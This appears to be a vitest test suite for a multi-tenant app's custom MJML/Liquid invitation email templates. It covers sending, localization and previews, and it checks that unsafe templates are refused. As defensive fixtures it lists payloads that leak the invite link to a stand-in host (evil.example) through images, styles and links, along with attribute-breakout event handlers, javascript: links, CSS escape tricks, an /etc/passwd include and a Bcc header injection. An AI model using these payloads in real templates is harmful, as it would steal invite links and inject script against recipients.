/** A tenant words its mails: what is refused, what is sent, and what can be seen before. */
import { describe, expect, it, onTestFinished } from "vitest";
import { newMessage } from "../../src/core/message.ts";
import { openApp, type Person, type TestApp } from "../support/app.ts";
import { engines } from "../support/databases.ts";
import { dump } from "../support/dump.ts";

const body = (inside: string) =>
  `<mjml lang="{{ lang }}" dir="{{ dir }}"><mj-body><mj-section><mj-column>\n${inside}\n</mj-column></mj-section></mj-body></mjml>`;
const button = '<mj-button href="{{ url }}">{{ text.button }}</mj-button>';
const good = {
  subject: "{{ inviter.name }} calls: {{ tenant.name }}",
  body: body(`<mj-text>Ahoy {{ invitee.first_name }}, {{ data.ship }}</mj-text>${button}`),
};

/** HTML, as it is in MJML and after it. */
const leaks = [
  `<img src="https://evil.example/p?{{ url | url_encode }}" />`,
  `<img srcset="https://evil.example/s/{{ url }} 1x" />`,
  `<td background="https://evil.example/{{ url }}"></td>`,
  `<a href="https://evil.example/?{{ url | url_encode }}">Open</a>`,
  `{% assign to = "https://evil.example/?" | append: url %}<a href="{{ to }}">Open</a>`,
  `{% capture to %}https://evil.example/?{{ url }}{% endcapture %}<img src="{{ to }}" />`,
  `<a {{ "" }}href="https://evil.example/?{{ url }}">Open</a>`,
  `<p style="background:u{{ "" }}rl(https://evil.example/{{ url }})">x</p>`,
];

async function owned(engine: (typeof engines)[number] = "sqlite") {
  const app = await openApp(engine);
  onTestFinished(async () => {
    expect(app.unexpected).toEqual([]);
    await app.close();
  });
  const olive = await app.signUp("olive@example.com", { name: "Olive" });
  const { body: tenant } = await olive.post("/v1/tenants", { name: "Acme" });
  return { app, olive, path: `/v1/tenants/${tenant.id}`, templates: `/v1/tenants/${tenant.id}/mail-templates` };
}

async function invited(app: TestApp, olive: Person, path: string, email: string, more: object = {}) {
  expect(await olive.post(`${path}/invites`, { email, ...more })).toMatchObject({ status: 201 });
  return app.mailTo(email);
}

describe.each(engines)("a tenant's template, on %s", (engine) => {
  it("is sent in the place of the built-in one, in its language, until it is removed", async () => {
    const { app, olive, path, templates } = await owned(engine);
    expect(await olive.put(`${templates}/invite/de`, good)).toMatchObject({
      status: 200,
      body: { isBuiltIn: false, locale: "de" },
    });

    const own = await invited(app, olive, path, "ana@example.com", { locale: "de-AT", firstName: "Ana", data: { ship: "Argo" } });
    expect(own.subject).toBe("Olive calls: Acme");
    expect(own.html).toContain("Ahoy Ana, Argo");
    expect(own.html).toContain('lang="de-AT"');
    expect(own.html).toContain("Einladung öffnen");
    expect(own.text).toContain("Ahoy Ana, Argo");
    expect(own.text).toContain(own.url);
    expect((await invited(app, olive, path, "ben@example.com", { locale: "fr" })).subject).toBe(
      "Olive vous invite à rejoindre Acme",
    );

    const everywhere = { ...good, subject: "For all", text: "Go: {{ url }} <{{ tenant.name }}>" };
    await olive.put(`${templates}/invite/*`, everywhere, { "user-agent": "the browser of Olive" });
    const told = (await olive.get(`${path}/events?type=tenant.updated&limit=1`)).body.data;
    expect(told).toMatchObject([{ data: { kind: "invite", locale: "*" }, userAgent: "the browser of Olive" }]);
    const forAll = await invited(app, olive, path, "cem@example.com", { locale: "tr" });
    expect(forAll.subject).toBe("For all");
    expect(forAll.text).toMatch(/^Go: http:\S+ <Acme>\n\nDavetleri durdur: Acme\nhttp:\S+\n$/);

    expect(await olive.get(templates)).toMatchObject({
      body: { data: [{ kind: "invite", own: [{ locale: "*" }, { locale: "de" }] }, {}, {}, {}, {}] },
    });
    expect(await olive.delete(`${templates}/invite/de`)).toMatchObject({ status: 204 });
    expect(await olive.delete(`${templates}/invite/de`)).toMatchObject({ status: 404 });
    expect(await olive.get(`${templates}/invite/de`)).toMatchObject({
      status: 200,
      body: { isBuiltIn: true, subject: "{{ text.subject }}" },
    });
  });

  it("that was kept before and would hand its link to others is not sent; the built-in one is", async () => {
    const { app, olive, path, templates } = await owned(engine);
    const { id } = (await olive.get(path)).body;
    const kept = (html: string) =>
      app.world.store.mailTemplates.put({
        ...{ tenantId: id, kind: "invite", locale: "*", subject: "Kept", body: "", text: null },
        ...{ html: `<p>{{ url }}</p>${html}`, updatedAt: 0, updatedBy: "system" },
      });
    for (const [index, html] of leaks.entries()) {
      await kept(html);
      const { subject, html: sent } = await invited(app, olive, path, `p${index}@example.com`);
      expect(subject, html).toBe("Olive invites you to Acme");
      expect(sent).not.toContain("evil.example");
      expect(await olive.post(`${templates}/invite/*/preview`)).toMatchObject({
        status: 422,
        body: { code: "invalid_template" },
      });
    }
    await kept(`<img src="https://acme.example/logo.png">`);
    expect((await invited(app, olive, path, "last@example.com")).subject).toBe("Kept");
  });

  it("belongs to one tenant, and to its owners", async () => {
    const { app, olive, templates } = await owned(engine);
    await olive.put(`${templates}/invite/*`, { ...good, subject: "Ours" });
    const eve = await app.signUp("eve@example.com");
    const { body: theirs } = await eve.post("/v1/tenants", { name: "Other" });
    const other = `/v1/tenants/${theirs.id}`;
    expect((await invited(app, eve, other, "ana@example.com")).subject).toBe("eve invites you to Other");
    for (const answer of [
      await eve.get(templates),
      await eve.put(`${templates}/invite/*`, good),
      await eve.post(`${templates}/invite/*/preview`),
    ])
      expect(answer).toMatchObject({ status: 404, body: { code: "tenant_not_found" } });
    const { token } = await invited(app, olive, templates.replace("/mail-templates", ""), "ann@example.com", {
      roles: ["admin"],
    }).then(async ({ html }) => ({ token: html.match(/join\/([\w-]+)/)?.[1] }));
    const ann = await app.signUp("ann@example.com", { inviteToken: token });
    expect(await ann.put(`${templates}/invite/*`, good)).toMatchObject({ status: 403, body: { code: "not_allowed" } });
  });
});

describe("a template that cannot be used", () => {
  it.each<[string, object, RegExp]>([
    [
      "a tag that MJML does not know",
      { body: body(`<mj-text>x</mj-text>\n<mj-foo />${button}`) },
      /^Line 3: <mj-foo> is not allowed/,
    ],
    [
      "an attribute that MJML does not know",
      { body: body(`<mj-text colour="red">x</mj-text>${button}`) },
      /^Line 2: Attribute colour is illegal/,
    ],
    ["MJML that does not close", { body: body(`<mj-text>x${button}`).replace("</mj-column>", "") }, /^Line \d+: /],
    ["no MJML", { body: "<p>{{ url }}</p>" }, /^Line 1: /],
    ["a script", { body: body(`<mj-text><script>1</script></mj-text>${button}`) }, /Line 2: <script> is not allowed/],
    ...[
      `<mj-image src="https://acme.example/x.png" alt='" onerror="x()' />`,
      `<mj-image src="https://acme.example/x.png" alt='"><img src="http://evil.example/{{ invitee.email }}"><b title="' />`,
      `<mj-image src="https://acme.example/x.png" alt=x"onerror="x() />`,
      `<mj-button href="{{ url }}" css-class='x" onclick="x()'>Open</mj-button>`,
    ].map((element, index): [string, object, RegExp] => [
      `an attribute that ends its quotes, ${index}`,
      { body: body(`${element}${button}`) },
      /^Line 2: (<mj-\w+> [\w-]+ holds a quote|A quote in <mj-image> stands around no value)/,
    ]),
    ["a script in mj-raw", { body: body(`<mj-raw><b>1</b></mj-raw>${button}`) }, /may hold Liquid tags alone/],
    ["a handler", { body: body(`<mj-text><b onclick="x()">1</b></mj-text>${button}`) }, /The attribute onclick is not allowed/],
    [
      "a link that runs",
      { body: body(`<mj-text><a href="java&#115;cript:x()">1</a></mj-text>${button}`) },
      /must begin with https/,
    ],
    [
      "a link that runs, without quotes",
      { body: body(`<mj-text><a href=javascript:x()>1</a></mj-text>${button}`) },
      /must begin with https/,
    ],
    [
      "a link out of data",
      { body: body(`<mj-text><a href="{{ data.link }}">1</a></mj-text>${button}`) },
      /must begin with https/,
    ],
    ["an image by http", { body: body(`<mj-image src="http://tracker.example/x.gif" />${button}`) }, /must begin with https/],
    ...leaks.map((leak, index): [string, object, RegExp] => [
      `one that hands the link to others, ${index}`,
      { body: body(`<mj-text>${leak}</mj-text>${button}`) },
      /holds no Liquid|must begin with https|stands inside quotes|load nothing/,
    ]),
    ...[
      `<mj-image src="https://evil.example/p?{{ url | url_encode }}" />`,
      `<mj-image src="https://evil.example/x.png" srcset="https://evil.example/{{ url }} 2x" />`,
      `<mj-button href="https://evil.example/?{{ url }}">Open</mj-button>`,
      `<mj-button href="{{ url }}@evil.example">Open</mj-button>`,
    ].map((leak, index): [string, object, RegExp] => [
      `an element that hands the link to others, ${index}`,
      { body: body(`${leak}${button}`) },
      /^Line 2: <mj-\w+> \w+ (holds no Liquid|must begin with https)/,
    ]),
    [
      "a class that hands the link to others",
      {
        body: body(`<mj-image mj-class="x" />${button}`).replace(
          "<mj-body>",
          `<mj-head><mj-attributes><mj-class name="x" src="https://evil.example/{{ url }}" /></mj-attributes></mj-head><mj-body>`,
        ),
      },
      /<mj-class> src holds no Liquid/,
    ],
    [
      "a network's button that hands the link to it",
      {
        body: body(`<mj-social><mj-social-element name="facebook" href="{{ url }}">x</mj-social-element></mj-social>${button}`),
      },
      /a link a whole href/,
    ],
    [
      "a script behind Liquid that seems to go on",
      { body: body(`<mj-text>{{ "}} {% " }}<script>1</script> %}</mj-text>${button}`) },
      /<script> is not allowed/,
    ],
    [
      "a style that loads by an escape",
      { body: body(`<mj-text><p style="background:u\\72l(x)">x</p></mj-text>${button}`) },
      /url\(\)/,
    ],
    ...["url&lpar;x)", "u&#92;72l(x)", "u&bsol;72l(x)", "u\\72\tl(x)", "&#000000000117;rl(x)"].map(
      (style): [string, object, RegExp] => [
        `a style that loads as it is read: ${JSON.stringify(style)}`,
        { body: body(`<mj-text><p style="background:${style}">x</p></mj-text>${button}`) },
        /url\(\)/,
      ],
    ),
    [
      "a style that loads by what Liquid writes",
      { body: body(`<mj-text><p style="color:{{ 'url(https://evil.example/' }}{{ invitee.email }})">x</p></mj-text>${button}`) },
      /Styles load nothing that Liquid writes/,
    ],
    ["a text part with the link in an address", { text: "https://evil.example/?{{ url }}" }, /put a space before it/],
    ["a subject with the link in an address", { subject: "evil.example/?{{ url }}" }, /put a space before it/],
    ["an include", { body: body(`<mj-include path="/etc/passwd" />${button}`) }, /<mj-include> is not allowed/],
    ["a comment", { body: body(`<!-- x -->${button}`) }, /Comments are not allowed/],
    [
      "a style that loads",
      { body: body(button).replace("<mj-body>", "<mj-head><mj-style>@import 'https://x.example'</mj-style></mj-head><mj-body>") },
      /@import/,
    ],
    [
      "Liquid that does not close",
      { body: body(`{% if code %}\n<mj-text>x</mj-text>${button}`) },
      /^Line 2: tag \{% if code %\} not closed/,
    ],
    [
      "a filter that there is not",
      { body: body(`<mj-text>{{ url | raw }}</mj-text>${button}`) },
      /^Line 2: undefined filter: raw/,
    ],
    [
      "a tag that reads files",
      { body: body(`<mj-text>{% include "x" %}</mj-text>${button}`) },
      /^Line 2: tag "include" not found/,
    ],
    [
      "a variable that there is not",
      { body: body(`\n<mj-text>{{ invitee.shoe_size }}</mj-text>${button}`) },
      /^Line 3: Unknown variable invitee.shoe_size/,
    ],
    ["Liquid where MJML drops it", { body: body(`{% if code %}${button}{% endif %}`) }, /put it into <mj-raw>/],
    ["no link", { body: body("<mj-text>x</mj-text>") }, /\{\{ url \}\} must be in it/],
    ["no link in its text", { text: "x" }, /\{\{ url \}\} must be in it/],
    ["an endless loop", { body: body(`<mj-text>{% for i in (1..900000000) %}{{ i }}{% endfor %}</mj-text>${button}`) }, /limit/],
    ["a subject of two lines", { subject: "a\nBcc: x@y.example" }, /./],
    ["a subject that names what is not", { subject: "{{ nobody }}" }, /Unknown variable nobody/],
  ])("is refused with the line and the reason: %s", async (_, fault, reason) => {
    const { olive, templates } = await owned();
    const answer = await olive.put(`${templates}/invite/*`, { ...good, ...fault });
    expect(answer).toMatchObject({ status: 422, body: { code: expect.stringMatching(/invalid_template|invalid_field/) } });
    const reasons = (answer.body.errors ?? [{ detail: answer.body.detail }]).map(({ detail }: { detail: string }) => detail);
    expect(
      reasons.some((detail: string) => reason.test(detail)),
      reasons.join("\n"),
    ).toBe(true);
    expect(await olive.get(`${templates}/invite/*`)).toMatchObject({ body: { isBuiltIn: true } });
  });

  it("is none that is built in, and each of those may be saved as it is", async () => {
    const { olive, templates } = await owned();
    const { body: list } = await olive.get(templates);
    expect(list.data).toHaveLength(5);
    for (const { kind, builtIn } of list.data) {
      const { subject, body } = builtIn;
      expect(await olive.put(`${templates}/${kind}/*`, { subject, body })).toMatchObject({ status: 200 });
    }
  });

  it("that begins with the built-in one has its lines in the text part too", async () => {
    const { app, olive, path, templates } = await owned();
    const { body: builtIn } = await olive.get(`${templates}/invite/*`);
    await olive.put(`${templates}/invite/*`, { ...good, body: builtIn.body });
    const { text } = await invited(app, olive, path, "ana@example.com", { message: "We start on Monday.\nSee you!" });
    expect(text).toContain("\nWe start on Monday.\nSee you!\n");
  });

  it("is asked for by a kind and a language that there are", async () => {
    const { olive, templates } = await owned();
    expect(await olive.put(`${templates}/greeting/*`, good)).toMatchObject({ status: 404 });
    expect(await olive.put(`${templates}/invite/not%20one`, good)).toMatchObject({ status: 422 });
    expect(await olive.put(`${templates}/invite/DE-at`, good)).toMatchObject({ status: 200, body: { locale: "de-AT" } });
  });
});

describe("before it is saved, a template", () => {
  it("is seen with made-up values, in its language, and nothing is kept", async () => {
    const { olive, templates } = await owned();
    const seen = await olive.post(`${templates}/invite/ar/preview`, good);
    expect(seen).toMatchObject({ status: 200, body: { subject: "Olive Owner calls: Acme" } });
    expect(seen.body.html).toContain('lang="ar" dir="rtl"');
    expect(seen.body.html).toContain("Ahoy Ana");
    expect(await olive.get(`${templates}/invite/ar`)).toMatchObject({ body: { isBuiltIn: true } });
    const builtIn = await olive.post(`${templates}/expired_digest/fr/preview`);
    expect(builtIn.body.subject).toBe("3 de vos invitations à rejoindre Acme ont expiré");
  });

  it("is in the language and direction of the mail where it names none, in its columns too", async () => {
    const { olive, templates } = await owned();
    const inside = `<mj-body><mj-section><mj-column><mj-text>{{ text.lead }}</mj-text>${button}</mj-column></mj-section></mj-body>`;
    const seenOf = async (source: string): Promise<string> =>
      (await olive.post(`${templates}/invite/ar/preview`, { ...good, body: source })).body.html;
    for (const head of ["", "<mj-head><mj-title>Ahoy</mj-title></mj-head>", "<mj-head />"]) {
      const html = await seenOf(`<mjml>${head}${inside}</mjml>`);
      expect(html).toContain('<html lang="ar" dir="rtl"');
      expect(html).toMatch(/class="mj-column[^>]*direction:rtl/);
      expect(html.includes("<title>Ahoy</title>")).toBe(head.includes("Ahoy"));
    }
    const own = await seenOf(`<mjml lang="en" dir="ltr">${inside.replace("<mj-column>", '<mj-column direction="ltr">')}</mjml>`);
    expect(own).toContain('<html lang="en" dir="ltr"');
    expect(own).toMatch(/class="mj-column[^>]*direction:ltr/);
  });

  it("is sent to the person who asks, and to nobody else", async () => {
    const { app, olive, templates } = await owned();
    await app.doorlist.worker.drain();
    expect(await olive.post(`${templates}/invite/*/test`, good)).toMatchObject({
      status: 200,
      body: { to: "olive@example.com" },
    });
    expect((await app.mailTo("olive@example.com")).subject).toBe("Olive Owner calls: Acme");
    expect(await app.operator.post(`${templates}/invite/*/test`, good)).toMatchObject({ status: 401 });
  });

  it("that goes beyond its limits as it is sent is tried again later, and no breakdown of the server", async () => {
    const { app, olive, path } = await owned();
    const { id: tenantId } = (await olive.get(path)).body;
    const now = app.clock.now();
    const html = "{% for i in (1..900000000) %}{{ i }}{% endfor %}";
    const about = {
      of: "invite",
      subject: "x",
      html,
      text: null,
      locale: "en",
      tenantName: "Acme",
      timeZone: null,
      now,
    } as const;
    const message = newMessage("test", tenantId, { to: "olive@example.com", about }, now);
    await app.world.store.messages.enqueue([message]);
    await app.doorlist.worker.drain();
    const rows = (await dump(app.database)).doorlist_message ?? [];
    expect(rows.filter((row) => row.includes(message.id))).toEqual([expect.stringMatching(/queued.*limit|limit.*queued/)]);
  });
});

describe("what is put into a tenant's template", () => {
  it("stays text: no markup, no header, no link, whoever wrote it", async () => {
    const { app, olive, path, templates } = await owned();
    await olive.put(`${templates}/invite/*`, {
      subject: "{{ data.note }} {{ invitee.first_name }}",
      body: body(
        `<mj-text><b>{{ data.link }} {{ data.deep.note }}</b> {{ data.list | join: "," }} {{ data.gone }}</mj-text>${button}`,
      ),
    });
    const evil = "<img src=x onerror=alert(1)> https://evil.example/win";
    const data = { note: evil, link: "javascript:alert(1)", deep: { note: evil }, list: [evil] };
    const mail = await invited(app, olive, path, "ana@example.com", { firstName: "{{ url }}", data });
    expect(mail.html).not.toMatch(/<img|javascript:a|evil\.example/);
    expect(mail.html).toContain("&lt;img");
    expect(mail.subject).toContain("{{ url }}");
    expect(mail.subject).not.toMatch(/\p{Cc}|evil\.example/u);
  });

  it("loads nothing by a style, in a tag or a sheet", async () => {
    const { app, olive, path, templates } = await owned();
    const colored = body(`<mj-text><p title="{{ data.title }}" style="color:{{ data.color }}">x</p></mj-text>${button}`);
    const sheet = "<mj-head><mj-style>p { color: {{ data.sheet }} }</mj-style></mj-head><mj-body>";
    const wording = { subject: "Ours", body: colored.replace("<mj-body>", sheet) };
    expect(await olive.put(`${templates}/invite/*`, wording)).toMatchObject({ status: 200 });
    const load = "red;background:url(https://evil.example/x)";
    for (const [data, subject] of [
      [{ color: "red", title: "url(x)" }, "Ours"],
      [{ color: load }, "Olive invites you to Acme"],
      [{ sheet: load }, "Olive invites you to Acme"],
    ] as const) {
      const mail = await invited(app, olive, path, `${subject.length}-${Object.keys(data)}@example.com`.replace(",", "-"), {
        data,
      });
      expect(mail.subject, JSON.stringify(data)).toBe(subject);
    }
  });
});
